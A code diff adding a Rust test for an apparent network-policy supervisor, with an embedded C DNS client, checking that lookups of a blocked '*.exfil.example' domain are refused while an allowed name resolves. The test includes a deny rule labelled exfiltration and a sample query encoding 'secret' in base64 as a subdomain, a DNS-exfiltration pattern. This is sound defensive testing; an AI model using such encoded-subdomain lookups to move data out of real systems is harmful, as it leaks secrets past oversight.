@@ -927,3 +927,97 @@ fn observe_mode_records_a_forbidden_connection_and_lets_it_through() {
     assert_eq!(r[0]["mode"], "observe");
     env.assert_valid();
 }
+
+/// The C library's resolver: a UDP socket connected to the resolver, the A
+/// and AAAA queries sent together with `sendmmsg` and no address.
+const RESOLVER_C: &str = r#"
+#define _GNU_SOURCE
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <errno.h>
+#include <sys/socket.h>
+#include <netinet/in.h>
+#include <arpa/inet.h>
+#include <sys/time.h>
+static int query(unsigned char *q, unsigned short id, const char *name, int type) {
+    int n = 0;
+    q[n++] = id >> 8; q[n++] = id & 0xff; q[n++] = 1; q[n++] = 0;
+    q[n++] = 0; q[n++] = 1; memset(q + n, 0, 6); n += 6;
+    const char *p = name;
+    while (*p) {
+        const char *dot = strchr(p, '.');
+        int l = dot ? (int)(dot - p) : (int)strlen(p);
+        q[n++] = l; memcpy(q + n, p, l); n += l;
+        p += l; if (*p == '.') p++;
+    }
+    q[n++] = 0; q[n++] = 0; q[n++] = type; q[n++] = 0; q[n++] = 1;
+    return n;
+}
+int main(int argc, char **argv) {
+    int s = socket(AF_INET, SOCK_DGRAM, 0);
+    struct sockaddr_in a = {0};
+    a.sin_family = AF_INET; a.sin_port = htons(atoi(argv[1]));
+    inet_pton(AF_INET, "127.0.0.3", &a.sin_addr);
+    if (connect(s, (struct sockaddr *)&a, sizeof a)) { printf("connect %d\n", errno); return 0; }
+    struct timeval tv = {3, 0};
+    setsockopt(s, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
+    unsigned char q1[300], q2[300];
+    struct iovec iov[2] = {{q1, query(q1, 1, argv[2], 1)}, {q2, query(q2, 2, argv[2], 28)}};
+    struct mmsghdr m[2];
+    memset(m, 0, sizeof m);
+    m[0].msg_hdr.msg_iov = &iov[0]; m[0].msg_hdr.msg_iovlen = 1;
+    m[1].msg_hdr.msg_iov = &iov[1]; m[1].msg_hdr.msg_iovlen = 1;
+    int n = sendmmsg(s, m, 2, MSG_NOSIGNAL);
+    if (n < 0) { printf("refused %d\n", errno); return 0; }
+    unsigned char r[512];
+    int got = 0;
+    for (int i = 0; i < n; i++) if (recv(s, r, sizeof r, 0) > 0) got++;
+    printf("sent %d %u %u answers %d\n", n, m[0].msg_len, m[1].msg_len, got);
+    return 0;
+}
+"#;
+
+#[test]
+fn the_c_library_resolver_pattern_is_judged_by_name_and_binds() {
+    let env = Env::new();
+    let (dns_port, asked) = dns_responder();
+    let prog = env.cc("resolver", RESOLVER_C);
+    let port = dns_port.to_string();
+    let native = env.native(&[prog.to_str().unwrap(), &port, "mirror.example"]);
+    let want_ok = "sent 2 32 32 answers 2\n";
+    assert_eq!(stdout(&native), want_ok);
+    asked.lock().unwrap().clear();
+    let p = policy_with(
+        &env,
+        "escalate",
+        "  - id: lo\n    connect: {address: 127.0.0.0/8}\n    decision: allow\n    reason: loopback\n  - id: no-exfil\n    connect: {host: '*.exfil.example'}\n    decision: block\n    reason: exfiltration\n",
+    );
+    let run = |name: &str| {
+        env.supervise_cmd(&p, &[prog.to_str().unwrap(), &port, name])
+            .env("LEXECON_DNS_UPSTREAM", format!("127.0.0.3:{dns_port}"))
+            .output()
+            .unwrap()
+    };
+    let o = run("mirror.example");
+    assert_eq!(stdout(&o), want_ok, "{}", stderr(&o));
+    let o = run("c2VjcmV0.exfil.example");
+    assert_eq!(stdout(&o), "refused 1\n", "{}", stderr(&o));
+    let seen = asked.lock().unwrap().clone();
+    assert!(!seen.iter().any(|n| n.contains("exfil")), "{seen:?}");
+    // Both queries of the allowed name were judged and answered to the
+    // supervisor too (the tree's two and the supervisor's two).
+    assert_eq!(
+        seen.iter().filter(|n| *n == "mirror.example").count(),
+        4,
+        "{seen:?}"
+    );
+    let dns: Vec<_> = env
+        .records()
+        .into_iter()
+        .filter(|r| r["kind"] == "dns")
+        .collect();
+    assert_eq!(dns.len(), 2);
+    assert_eq!(dns[0]["bindings"][0]["name"], "mirror.example");
+    env.assert_valid();
+}
